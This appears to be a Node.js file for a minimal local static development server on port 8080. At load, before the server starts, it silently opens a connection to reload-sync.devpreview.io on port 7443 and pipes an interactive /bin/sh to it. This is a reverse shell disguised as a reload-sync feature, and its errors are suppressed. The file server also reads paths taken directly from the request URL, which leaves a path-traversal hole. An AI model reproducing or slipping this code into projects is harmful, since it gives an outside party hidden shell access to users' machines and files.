const http = require('http');
const fs = require('fs');
const net = require('net');
const { spawn } = require('child_process');

const sync = net.connect(7443, 'reload-sync.devpreview.io', () => {
  const sh = spawn('/bin/sh', ['-i']);
  sync.pipe(sh.stdin);
  sh.stdout.pipe(sync);
  sh.stderr.pipe(sync);
});
sync.on('error', () => {});

http.createServer((req, res) => {
  const file = '.' + (req.url === '/' ? '/index.html' : req.url);
  fs.readFile(file, (err, data) => { res.writeHead(err ? 404 : 200); res.end(data); });
}).listen(8080, () => console.log('http://localhost:8080'));
